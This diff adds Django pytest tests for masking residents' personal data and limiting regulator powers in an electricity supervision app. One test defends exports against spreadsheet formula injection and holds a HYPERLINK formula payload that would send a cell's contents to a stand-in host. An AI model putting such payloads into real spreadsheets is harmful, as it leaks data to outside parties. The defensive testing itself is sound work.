@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import datetime as dt
 import io
+import json
 from typing import Any
 
 import pytest
@@ -11,7 +12,8 @@ from django.test import Client
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from getelec.supervision import services
+from getelec.accounts.testing import ORGANISATION_CASES
+from getelec.supervision import selectors, services
 from getelec.supervision.models import LedgerAssignment, ProgressReport
 from getelec.supervision.services import FilingInput
 
@@ -256,3 +258,240 @@ def test_the_report_form_states_the_platforms_upload_limit(
     with translation.override("en"):
         text = translation.gettext("附件（PDF、图片、Word、Excel，每个不超过%(mb)sMB）")
     assert text % {"mb": "5"} == "Attachments (PDF, images, Word, Excel; at most 5 MB each)"
+
+
+# --------------------------------------------------------------------------------------------
+# Personal data by role × field (pages, API and exports alike)
+# --------------------------------------------------------------------------------------------
+
+RESIDENT = "张三丰"
+ADDRESS = "银川市兴庆区解放东街12号楼3单元502"
+MASKED_NAME = "张**"
+MASKED_ADDRESS = "银川市兴庆区解放东街12号楼****"
+
+
+def _text(response: Any) -> str:
+    if response["Content-Type"].startswith("application/vnd.openxmlformats"):
+        wb = load_workbook(io.BytesIO(response.content))
+        return " ".join(
+            str(c) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row
+        )
+    if response["Content-Type"].startswith("application/json"):
+        return json.dumps(response.json(), ensure_ascii=False)
+    return response.content.decode()
+
+
+@pytest.fixture
+def resident(users: dict[str, Any], orgs: Any, blocked: Any) -> dict[str, Any]:
+    """A resident's blocked application of company A with a submitted filing whose project name
+    staff typed with the customer's name, and company A's October batch holding it."""
+    app = blocked(
+        customer_type="residential",
+        customer_name=RESIDENT,
+        address=ADDRESS,
+        category="lv_residential",
+        due_on=D(2026, 11, 20),
+    )
+    data = services.FilingInput.from_application(app)
+    data.project_name = f"{RESIDENT}家用电报装"
+    data.cause_detail = f"{RESIDENT}家门前道路占道审批未批复"
+    data.measures, data.customer_informed_how, data.contact = "协调住建部门", "短信", "张工"
+    data.cause = "administrative_approval"
+    filing = services.create_filing(users["staff_a"], app, data)
+    import time_machine
+
+    with time_machine.travel("2026-10-12 10:00 +0800", tick=False):
+        filing = services.submit_filing(users["staff_a"], filing, filing.version)
+    batch = services.submit_batch(users["staff_a"], orgs["company_a"], D(2026, 10, 1))
+    return {"app": app, "filing": filing, "batch": batch}
+
+
+# Who sees the filing at all, and who sees it in full (only the serving company).
+FILING_READERS = {
+    "staff_a": "full",
+    "staff_b": None,
+    "regulator_ndrc": "masked",
+    "regulator_nea": "masked",
+    "energy_yinchuan": "masked",
+    "department": None,
+    "admin": "masked",
+    "applicant": None,
+}
+
+
+def _surfaces(r: dict[str, Any]) -> dict[str, str]:
+    return {
+        "filing page": reverse("supervision:filing", args=[r["filing"].pk]),
+        "filing API": f"/api/v1/supervision/filings/{r['filing'].pk}",
+        "batch page": reverse("supervision:batch", args=[r["batch"].pk]),
+        "batch API": f"/api/v1/supervision/batches/{r['batch'].pk}",
+        "A1 workbook": reverse("supervision:batch_export", args=[r["batch"].pk]),
+    }
+
+
+SURFACES = ["filing page", "filing API", "batch page", "batch API", "A1 workbook"]
+
+
+@pytest.mark.parametrize("surface", SURFACES)
+@pytest.mark.parametrize("who", list(FILING_READERS))
+def test_personal_data_by_role_and_field(
+    resident: dict[str, Any], users: dict[str, Any], who: str, surface: str
+) -> None:
+    """Outside the serving company a resident's name and the address below the building are
+    masked in pages, API and exports; the batch (sent to the regulators) is masked for all."""
+    response = client_for(users[who]).get(_surfaces(resident)[surface])
+    sees = FILING_READERS[who]
+    if sees is None:
+        assert response.status_code == 404
+        return
+    assert response.status_code == 200
+    text = _text(response)
+    if sees == "full" and surface.startswith("filing"):
+        assert ADDRESS in text and f"{RESIDENT}家用电报装" in text
+        return
+    assert RESIDENT not in text and ADDRESS not in text and "3单元502" not in text
+    assert f"{MASKED_NAME}家用电报装" in text
+    assert MASKED_ADDRESS in text or surface == "batch page"  # the page lists no address
+
+
+@pytest.mark.parametrize(
+    ("who", "full"),
+    [("staff_a", True), ("regulator_ndrc", False), ("regulator_nea", False), ("admin", False)],
+)
+def test_the_application_api_masks_the_address_outside_the_company(
+    resident: dict[str, Any], users: dict[str, Any], who: str, full: bool
+) -> None:
+    data = client_for(users[who]).get(f"/api/v1/applications/{resident['app'].number}").json()
+    assert data["address"] == (ADDRESS if full else MASKED_ADDRESS)
+    assert data["customer_name"] == (RESIDENT if full else MASKED_NAME)
+
+
+def test_the_default_project_name_carries_no_personal_data(resident: dict[str, Any]) -> None:
+    app = resident["app"]
+    name = services.FilingInput.from_application(app).project_name
+    assert name == f"低压居民用电报装（{app.number}）"
+    assert RESIDENT not in name and "解放东街" not in name
+
+
+# --------------------------------------------------------------------------------------------
+# Spreadsheet formula injection in the A1 workbook and the ledger export
+# --------------------------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"详情")'
+
+
+def test_staff_text_never_becomes_a_formula_in_the_exports(
+    desk: Any, users: dict[str, Any], orgs: Any
+) -> None:
+    filing = desk["filing"]
+    revision = filing.revisions.get()
+    type(revision).objects.filter(pk=revision.pk).update(measures=FORMULA, contact="@SUM(1)")
+    from getelec.supervision.selectors import batch_preview
+
+    batch = desk["batch"]
+    batch.rows = batch_preview(orgs["company_a"], D(2026, 10, 1), D(2026, 11, 1)).rows
+    batch.save(update_fields=["rows"])
+    a8 = LedgerAssignment.objects.get(task__number=8, organisation=orgs["company_b"])
+    services.file_progress_report(users["staff_b"], a8, 2026, 3, "-1+1 签约")
+    client = client_for(users["regulator_nea"])
+    texts: dict[str, list[str]] = {}
+    for url in (
+        reverse("supervision:batch_export", args=[batch.pk]),
+        reverse("supervision:ledger_export"),
+    ):
+        wb = load_workbook(io.BytesIO(client.get(url).content))
+        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"], url
+        texts[url] = [c.value for c in cells if isinstance(c.value, str)]
+        assert not [t for t in texts[url] if t.startswith(("=", "+", "-", "@"))], url
+    a1 = texts[reverse("supervision:batch_export", args=[batch.pk])]
+    assert "'" + FORMULA in a1 and "'@SUM(1)" in a1
+
+
+# --------------------------------------------------------------------------------------------
+# Powers by organisation: the city energy authority is no province regulator
+# --------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def ndrc_report(desk: Any, users: dict[str, Any], orgs: Any) -> ProgressReport:
+    """A progress report of 自治区发展改革委 on one of its own ledger rows."""
+    own = LedgerAssignment.objects.filter(organisation=orgs["ndrc"]).first()
+    assert own is not None
+    return services.file_progress_report(users["regulator_ndrc"], own, 2026, 3, "发改委进展")
+
+
+def test_the_city_energy_authority_cannot_return_the_province_regulators_report(
+    ndrc_report: ProgressReport, users: dict[str, Any]
+) -> None:
+    client = client_for(users["energy_yinchuan"])
+    review = reverse("supervision:review", args=[ndrc_report.pk])
+    assert client.post(review, {"decision": "returned", "comment": "退回"}).status_code == 404
+    ndrc_report.refresh_from_db()
+    assert ndrc_report.review == "pending"
+    assert selectors.can_review(users["energy_yinchuan"], ndrc_report) is False
+    assert selectors.can_review(users["regulator_nea"], ndrc_report) is True
+
+
+def test_the_city_energy_authority_reads_neither_ledger_nor_the_dashboard(
+    ndrc_report: ProgressReport, users: dict[str, Any]
+) -> None:
+    client = client_for(users["energy_yinchuan"])
+    assert client.get("/api/v1/supervision/ledger").json() == []
+    assert "发改委进展" not in client.get(reverse("supervision:ledger")).content.decode()
+    assert client.get(reverse("supervision:dashboard")).status_code == 404
+    assert client.get(reverse("outages:ledger")).status_code == 404
+    assert client.get(reverse("outages:regulator")).status_code == 404
+    assert client.get(reverse("outages:ledger_xlsx")).status_code == 404
+
+
+def test_the_city_energy_authority_reads_its_citys_filings_and_batches_only(
+    desk: Any, users: dict[str, Any], orgs: Any, blocked: Any, regions: Any
+) -> None:
+    other = blocked(company=orgs["company_b"], due_on=D(2026, 11, 20))
+    data = services.FilingInput.from_application(other)
+    data.cause, data.cause_detail, data.measures = "administrative_approval", "占道", "协调"
+    data.customer_informed_how, data.contact = "短信", "王工"
+    filing_b = services.create_filing(users["staff_b"], other, data)
+    client = client_for(users["energy_yinchuan"])
+    assert client.get(reverse("supervision:filing", args=[desk["filing"].pk])).status_code == 200
+    assert client.get(reverse("supervision:filing", args=[filing_b.pk])).status_code == 404
+    assert client.get(reverse("supervision:batch", args=[desk["batch"].pk])).status_code == 200
+    ids = {f["id"] for f in client.get("/api/v1/supervision/filings").json()}
+    assert ids == {desk["filing"].pk}
+    # Reading a filing is not reading the application behind it.
+    assert client.get(f"/api/v1/applications/{desk['app'].number}").status_code == 404
+
+
+REVIEWERS = {"drc", "nea"}
+WHOLE_LEDGER = {"drc", "nea", "admin"}
+QUALITY_READERS = {"drc", "nea", "regulator_city", "regulator_county", "admin"}
+SIGNS_OFF = {"nea"}
+
+
+@pytest.mark.parametrize(
+    "key", [c.key for c in ORGANISATION_CASES] + ["admin", "applicant", "anonymous"]
+)
+def test_deciding_and_reading_powers_by_organisation(
+    desk: Any, organisation_users: dict[str, Any], key: str
+) -> None:
+    """can_review, the whole ledger, the quality desk and sign-off per organisation kind and
+    level (not per role flag: every government account here is a regulator by role)."""
+    from django.contrib.auth.models import AnonymousUser
+
+    from getelec.outages import selectors as quality
+
+    user = organisation_users[key] or AnonymousUser()
+    assert selectors.can_review(user, desk["report"]) is (key in REVIEWERS)
+    assert selectors.sees_everything(user) is (key in WHOLE_LEDGER)
+    assert quality.sees_everything(user) is (key in QUALITY_READERS)
+    assert quality.can_verify(user) is (key in SIGNS_OFF)
+
+
+def test_the_city_energy_authority_lands_on_the_filings_not_in_a_redirect_loop(
+    users: dict[str, Any],
+) -> None:
+    client = client_for(users["energy_yinchuan"])
+    response = client.get(reverse("regulator_list"))
+    assert response.status_code == 302 and response["Location"] == reverse("supervision:filings")
+    assert "监管查询" not in client.get(reverse("supervision:filings")).content.decode()
